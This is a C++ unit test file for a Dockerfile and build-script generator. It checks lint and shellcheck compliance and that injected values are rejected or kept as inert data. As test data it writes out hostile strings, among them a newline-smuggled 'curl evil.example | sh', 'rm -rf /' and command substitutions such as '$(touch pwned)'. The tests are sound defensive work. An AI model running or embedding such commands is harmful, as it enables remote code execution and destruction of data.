// BuildGenerator: every template's output lints clean, hostile values stay
// data, and generated scripts pass shellcheck.
#include "core/buildgen/build_generator.h"

#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/buildgen/dockerfile_linter.h"
#include "core/buildgen/dockerfile_parser.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace dkd::core {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

struct Variant {
  std::string name;
  BuildConfig config;
};

// Every template with its package managers, each with no options, with
// every option (port, cache mounts, packages, commands, args) and with
// caller build commands.
std::vector<Variant> AllVariants() {
  std::vector<std::pair<std::string, std::string>> kinds = {
      {"python", "pip"}, {"python", "poetry"}, {"node", "npm"},    {"node", "yarn"},
      {"node", "pnpm"},  {"java", "maven"},    {"java", "gradle"}, {"go", ""},
      {"rust", ""},      {"dotnet", ""},       {"generic", ""}};
  std::vector<Variant> out;
  for (const auto& [type, pm] : kinds) {
    for (int v = 0; v < 3; ++v) {
      BuildConfig c;
      c.build_type = type;
      c.package_manager = pm;
      c.metadata = {{"project_name", "demo"}, {"version", "1.2.3"}, {"licenses", "MIT"}};
      if (type == "generic") c.main = "bin/start";
      if (v >= 1) {
        c.port = 8080;
        c.use_buildkit_cache = v == 1;
        c.environment = {{"LOG_LEVEL", "info"}, {"GREETING", "hello \"$USER\" 'x'"}};
        c.labels = {{"com.example.team", "core"}};
        c.build_args = {{"GIT_SHA", "unknown"}};
        c.runtime_commands = {"mkdir -p /tmp/cache"};
        c.extra_packages = {"ca-certificates=20230311"};
        if (type == "go") c.extra_packages = {"ca-certificates=20240705-r0"};
      }
      if (v == 2) {
        c.build_commands = {"make build", "make test"};
        c.user = "svc";
        c.working_directory = "/srv/app";
      }
      out.push_back({type + "/" + (pm.empty() ? "default" : pm) + "/" + std::to_string(v), c});
    }
  }
  BuildConfig busybox;
  busybox.build_type = "generic";
  busybox.base_image = "busybox:1.36";
  busybox.main = "run.sh";
  busybox.port = 80;
  out.push_back({"generic/busybox", busybox});
  BuildConfig alpine = busybox;
  alpine.base_image = "alpine:3.20";
  alpine.extra_packages = {"curl=8.9.1-r2"};
  out.push_back({"generic/alpine", alpine});
  return out;
}

TEST(BuildGeneratorTest, EveryTemplateLintsCleanAndIsComplete) {
  BuildGenerator gen;
  for (const Variant& v : AllVariants()) {
    SCOPED_TRACE(v.name);
    auto r = gen.GenerateDockerfile(v.config);
    ASSERT_TRUE(r.ok()) << r.status();
    LintResult lint = DockerfileLinter().Lint(r->dockerfile);
    EXPECT_EQ(lint.parse_error, "");
    for (const LintFinding& f : lint.findings) {
      ADD_FAILURE() << f.rule << " line " << f.line << ": " << f.message << "\n" << r->dockerfile;
    }
    auto parsed = ParseDockerfile(r->dockerfile);
    ASSERT_TRUE(parsed.ok());
    const auto& ins = parsed->instructions;
    // The last stage is the image: it ends with an exec-form CMD/ENTRYPOINT,
    // not with a dangling FROM.
    EXPECT_NE(ins.back().keyword, "FROM");
    bool user = false, exec = false, labels = false, health = false;
    for (const auto& i : ins) {
      if (i.keyword == "FROM") user = exec = labels = health = false;
      user |= i.keyword == "USER" && i.rest != "root";
      exec |= (i.keyword == "CMD" || i.keyword == "ENTRYPOINT") && i.json_form;
      labels |= i.keyword == "LABEL" &&
                i.rest.find("org.opencontainers.image.title") != std::string::npos;
      health |= i.keyword == "HEALTHCHECK";
    }
    EXPECT_TRUE(user);
    EXPECT_TRUE(exec);
    EXPECT_EQ(labels, !v.config.metadata.empty());
    EXPECT_EQ(health, v.config.port != 0);
    // The generic template has no package manager cache to mount.
    bool mounts = v.config.use_buildkit_cache && v.config.build_type != "generic";
    EXPECT_EQ(r->dockerfile.find("--mount=") != std::string::npos, mounts);
    // A syntax line only on request (config.syntax), mounts or not.
    EXPECT_EQ(r->dockerfile.find("# syntax="), std::string::npos);
    EXPECT_THAT(r->dockerignore, HasSubstr(".git\n"));
  }
}

TEST(BuildGeneratorTest, ASyntaxLineOnlyOnRequestAndOnlyAnImageReference) {
  BuildConfig c;
  c.build_type = "python";
  c.use_buildkit_cache = true;
  c.syntax = "registry.example.com/tools/dockerfile:1.4";
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->dockerfile.rfind("# syntax=registry.example.com/tools/dockerfile:1.4\n", 0), 0u)
      << r->dockerfile;
  for (const std::string& bad :
       {std::string("Bad Image"), std::string("x\nFROM evil"), std::string("app/Case:1")}) {
    c.syntax = bad;
    auto refused = BuildGenerator().GenerateDockerfile(c);
    EXPECT_EQ(refused.status().code(), absl::StatusCode::kInvalidArgument) << bad;
    EXPECT_THAT(refused.status().message(), HasSubstr("config.syntax")) << bad;
  }
}

TEST(BuildGeneratorTest, NodeBuildsWithDevDependenciesAndPrunesAfter) {
  BuildConfig c;
  c.build_type = "node";
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_TRUE(r.ok());
  const std::string& d = r->dockerfile;
  EXPECT_THAT(d, HasSubstr("RUN npm ci\n"));
  EXPECT_LT(d.find("npm run build"), d.find("npm prune --omit=dev"));
  EXPECT_GT(d.find("NODE_ENV=production"), d.find("AS runtime"));
  EXPECT_LT(d.find("COPY package.json package-lock.json ./"), d.find("COPY . ."));
  EXPECT_THAT(r->dockerignore, HasSubstr("node_modules/"));
  EXPECT_THAT(r->dockerignore, Not(HasSubstr("package")));
}

TEST(BuildGeneratorTest, PythonCopiesAVirtualenvNotSitePackages) {
  BuildConfig c;
  c.build_type = "python";
  c.language_version = "3.11";
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_TRUE(r.ok());
  EXPECT_THAT(r->dockerfile, Not(HasSubstr("site-packages")));
  EXPECT_THAT(r->dockerfile, HasSubstr("ARG PYTHON_VERSION=3.11"));
  EXPECT_THAT(r->dockerfile, HasSubstr("COPY --from=build /opt/venv /opt/venv"));
}

TEST(BuildGeneratorTest, JavaUsesTheBuildImagesToolNotAWrapper) {
  for (const char* pm : {"maven", "gradle"}) {
    BuildConfig c;
    c.build_type = "java";
    c.package_manager = pm;
    auto r = BuildGenerator().GenerateDockerfile(c);
    ASSERT_TRUE(r.ok());
    EXPECT_THAT(r->dockerfile, Not(HasSubstr("mvnw")));
    EXPECT_THAT(r->dockerfile, Not(HasSubstr("gradlew")));
    EXPECT_THAT(r->dockerfile, HasSubstr("CMD [\"java\", \"-jar\", \"/app/app.jar\"]"));
  }
}

TEST(BuildGeneratorTest, BusyboxUsesNoPackageManagerOrUseradd) {
  BuildConfig c;
  c.build_type = "generic";
  c.base_image = "busybox:1.36";
  c.main = "run.sh";
  c.port = 8080;
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_TRUE(r.ok());
  EXPECT_THAT(r->dockerfile, Not(HasSubstr("apt")));
  EXPECT_THAT(r->dockerfile, Not(HasSubstr("apk")));
  EXPECT_THAT(r->dockerfile, Not(HasSubstr("useradd")));
  EXPECT_THAT(r->dockerfile, HasSubstr("adduser -D"));
  EXPECT_THAT(r->dockerfile, HasSubstr("\"wget\""));
  c.extra_packages = {"curl"};
  EXPECT_EQ(BuildGenerator().GenerateDockerfile(c).status().code(),
            absl::StatusCode::kInvalidArgument);
}

TEST(BuildGeneratorTest, MultiStageHasNoTrailingFromAndChecksFinalStage) {
  BuildConfig c;
  c.build_type = "go";
  auto build = BuildGenerator().CreateMultiStageBuild(c);
  ASSERT_TRUE(build.ok());
  EXPECT_EQ(build->final_stage, "runtime");
  EXPECT_EQ(build->stages.back().name, "runtime");
  build->final_stage = "build";
  EXPECT_EQ(build->ToDockerfile().status().code(), absl::StatusCode::kInvalidArgument);
}

void ExpectInvalid(const BuildConfig& c, const std::string& field) {
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument) << field;
  EXPECT_THAT(std::string(r.status().message()), HasSubstr(field));
}

TEST(BuildGeneratorTest, ControlCharactersCannotAddInstructions) {
  const std::string evil = "x\nRUN curl evil.example | sh";
  BuildConfig base;
  base.build_type = "python";
  BuildConfig c = base;
  c.environment["X"] = evil;
  ExpectInvalid(c, "config.environment[\"X\"]");
  c = base;
  c.labels["a"] = evil;
  ExpectInvalid(c, "config.labels[\"a\"]");
  c = base;
  c.metadata["description"] = "a\rb";
  ExpectInvalid(c, "config.metadata[\"description\"]");
  c = base;
  c.build_commands = {"make", evil};
  ExpectInvalid(c, "config.build_commands[1]");
  c = base;
  c.command = {"python", std::string("a\0b", 3)};
  ExpectInvalid(c, "config.command[1]");
  c = base;
  c.base_image = "python:3.12\nUSER root";
  ExpectInvalid(c, "config.base_image");
  c = base;
  c.build_args["V"] = evil;
  ExpectInvalid(c, "config.build_args[\"V\"]");
  c = base;
  c.health_check = {"CMD", evil};
  ExpectInvalid(c, "config.health_check[1]");
}

TEST(BuildGeneratorTest, QuotesAndDollarsStayData) {
  BuildConfig c;
  c.build_type = "python";
  c.environment["X"] = "\" \\ $(id) ${HOME}";
  auto r = BuildGenerator().GenerateDockerfile(c);
  ASSERT_TRUE(r.ok());
  auto parsed = ParseDockerfile(r->dockerfile);
  ASSERT_TRUE(parsed.ok());
  bool found = false;
  for (const auto& ins : parsed->instructions) {
    if (ins.keyword != "ENV") continue;
    for (const DockerfileKeyValue& kv : ParseKeyValues(ins)) {
      if (kv.key == "X") {
        found = true;
        EXPECT_EQ(ExpandVariables(kv.value, {{"HOME", "/root"}}), "\" \\ $(id) ${HOME}");
      }
    }
  }
  EXPECT_TRUE(found);
}

TEST(BuildGeneratorTest, ValidationNamesTheField) {
  BuildConfig c;
  c.build_type = "cobol";
  ExpectInvalid(c, "config.build_type");
  c.build_type = "node";
  c.package_manager = "bun";
  ExpectInvalid(c, "config.package_manager");
  c.package_manager = "";
  c.port = 70000;
  ExpectInvalid(c, "config.port");
  c = BuildConfig();
  c.build_type = "rust";
  ExpectInvalid(c, "config.metadata[\"project_name\"]");
  c.build_type = "dotnet";
  ExpectInvalid(c, "config.metadata[\"project_name\"]");
  c = BuildConfig();
  c.build_type = "generic";
  ExpectInvalid(c, "config.command");
  c = BuildConfig();
  c.build_type = "go";
  c.user = "root";
  ExpectInvalid(c, "config.user");
  c.user = "";
  c.working_directory = "relative";
  ExpectInvalid(c, "config.working_directory");
  c.working_directory = "";
  c.environment["1BAD"] = "x";
  ExpectInvalid(c, "config.environment[\"1BAD\"]");
  c.environment.clear();
  c.metadata["colour"] = "blue";
  ExpectInvalid(c, "config.metadata[\"colour\"]");
}

// --- build scripts ---

bool HaveShellcheck() { return access("/usr/bin/shellcheck", X_OK) == 0; }

std::string TempDir() {
  char tmpl[] = "/tmp/dkd-bg-XXXXXX";
  const char* d = mkdtemp(tmpl);
  return d == nullptr ? "" : d;
}

std::string ReadFile(const std::string& path) {
  std::ifstream f(path);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

void WriteFile(const std::string& path, const std::string& text) { std::ofstream(path) << text; }

BuildScript HostileScriptConfig() {
  BuildScript c;
  c.name = "app";
  c.tags = {"registry.example.com/team/app:1.0", "app:latest"};
  c.push_targets = {"registry.example.com/team/app:1.0", "mirror.example.com/app:1.0"};
  c.build_args = {{"EVIL", "$(touch pwned) `touch pwned2` 'q' \"dq\" ; rm -rf /"}, {"PLAIN", "1"}};
  c.labels = {{"org.opencontainers.image.description", "it's $(whoami)"}};
  c.dependencies = {"deps/base.sh", "base:1"};
  c.context_path = "-ctx";
  c.target = "runtime";
  c.no_cache = true;
  c.pull = true;
  return c;
}

TEST(BuildScriptTest, PassesShellcheck) {
  if (!HaveShellcheck()) GTEST_SKIP() << "/usr/bin/shellcheck is not installed";
  std::vector<BuildScript> configs;
  BuildScript minimal;
  minimal.name = "app";
  configs.push_back(minimal);
  configs.push_back(HostileScriptConfig());
  BuildScript images = minimal;
  images.dependencies = {"base:1"};
  images.tags = {"app:2"};
  configs.push_back(images);
  std::string dir = TempDir();
  for (size_t i = 0; i < configs.size(); ++i) {
    auto r = BuildGenerator().GenerateBuildScript(configs[i]);
    ASSERT_TRUE(r.ok()) << r.status();
    std::string path = dir + "/build" + std::to_string(i) + ".sh";
    WriteFile(path, r->shell_script);
    std::string cmd = "/usr/bin/shellcheck --severity=style " + path + " > " + path + ".out 2>&1";
    EXPECT_EQ(std::system(cmd.c_str()), 0) << r->shell_script << ReadFile(path + ".out");
    EXPECT_EQ(r->shell_script.rfind("#!/usr/bin/env bash\n", 0), 0u);
    EXPECT_THAT(r->shell_script, HasSubstr("set -euo pipefail"));
  }
}

TEST(BuildScriptTest, HostileValuesReachDockerVerbatimAndRunNothing) {
  std::string dir = TempDir();
  ASSERT_FALSE(dir.empty());
  ASSERT_EQ(std::system(("mkdir -p " + dir + "/bin " + dir + "/deps").c_str()), 0);
  // A fake docker records each argument on its own line; `image inspect`
  // succeeds so the dependency check passes.
  WriteFile(dir + "/bin/docker",
            "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done >> \"$DOCKER_LOG\"\n"
            "echo --- >> \"$DOCKER_LOG\"\n");
  WriteFile(dir + "/deps/base.sh", "#!/bin/sh\necho dep-ran >> \"$DOCKER_LOG\"\n");
  ASSERT_EQ(std::system(("chmod +x " + dir + "/bin/docker").c_str()), 0);
  auto r = BuildGenerator().GenerateBuildScript(HostileScriptConfig());
  ASSERT_TRUE(r.ok()) << r.status();
  WriteFile(dir + "/build.sh", r->shell_script);
  std::string cmd = "cd / && PATH=" + dir + "/bin:$PATH DOCKER_LOG=" + dir + "/log bash " + dir +
                    "/build.sh > " + dir + "/out 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << ReadFile(dir + "/out");
  std::string log = ReadFile(dir + "/log");
  EXPECT_EQ(log.rfind("dep-ran\n", 0), 0u) << log;
  EXPECT_THAT(
      log, HasSubstr("\n--build-arg\nEVIL=$(touch pwned) `touch pwned2` 'q' \"dq\" ; rm -rf /\n"));
  EXPECT_THAT(log, HasSubstr("\n--label\norg.opencontainers.image.description=it's $(whoami)\n"));
  EXPECT_THAT(log, HasSubstr("\n--tag\nregistry.example.com/team/app:1.0\n--tag\napp:latest\n"));
  EXPECT_THAT(log, HasSubstr("\n./-ctx\n"));
  EXPECT_THAT(log,
              HasSubstr("tag\nregistry.example.com/team/app:1.0\nmirror.example.com/app:1.0\n"));
  EXPECT_THAT(log, HasSubstr("push\nmirror.example.com/app:1.0\n"));
  EXPECT_NE(access((dir + "/pwned").c_str(), F_OK), 0);
  EXPECT_NE(access("/pwned", F_OK), 0);
  EXPECT_NE(access((dir + "/pwned2").c_str(), F_OK), 0);
}

TEST(BuildScriptTest, MissingImageDependencyStopsTheScript) {
  std::string dir = TempDir();
  ASSERT_EQ(std::system(("mkdir -p " + dir + "/bin").c_str()), 0);
  WriteFile(dir + "/bin/docker",
            "#!/bin/sh\n[ \"$1\" = image ] && exit 1\necho built >> \"$DOCKER_LOG\"\n");
  ASSERT_EQ(std::system(("chmod +x " + dir + "/bin/docker").c_str()), 0);
  BuildScript c;
  c.name = "app";
  c.dependencies = {"base:1"};
  auto r = BuildGenerator().GenerateBuildScript(c);
  ASSERT_TRUE(r.ok());
  WriteFile(dir + "/build.sh", r->shell_script);
  std::string cmd = "PATH=" + dir + "/bin:$PATH DOCKER_LOG=" + dir + "/log bash " + dir +
                    "/build.sh > " + dir + "/out 2>&1";
  EXPECT_NE(std::system(cmd.c_str()), 0);
  EXPECT_THAT(ReadFile(dir + "/out"), HasSubstr("required image base:1 is not present"));
  EXPECT_EQ(ReadFile(dir + "/log"), "");
}

TEST(BuildScriptTest, RejectsBadTagsAndControlCharacters) {
  BuildScript c;
  c.name = "app";
  c.tags = {"app:$(id)"};
  auto r = BuildGenerator().GenerateBuildScript(c);
  EXPECT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(std::string(r.status().message()), HasSubstr("config.tags[0]"));
  c.tags = {"app:1"};
  c.build_args["X"] = "a\nrm -rf /";
  r = BuildGenerator().GenerateBuildScript(c);
  EXPECT_THAT(std::string(r.status().message()), HasSubstr("config.build_args[\"X\"]"));
  c.build_args = {{"BAD NAME", "1"}};
  EXPECT_EQ(BuildGenerator().GenerateBuildScript(c).status().code(),
            absl::StatusCode::kInvalidArgument);
  c.build_args.clear();
  c.dependencies = {"not a reference"};
  r = BuildGenerator().GenerateBuildScript(c);
  EXPECT_THAT(std::string(r.status().message()), HasSubstr("config.dependencies[0]"));
  c = BuildScript();
  EXPECT_EQ(BuildGenerator().GenerateBuildScript(c).status().code(),
            absl::StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace dkd::core
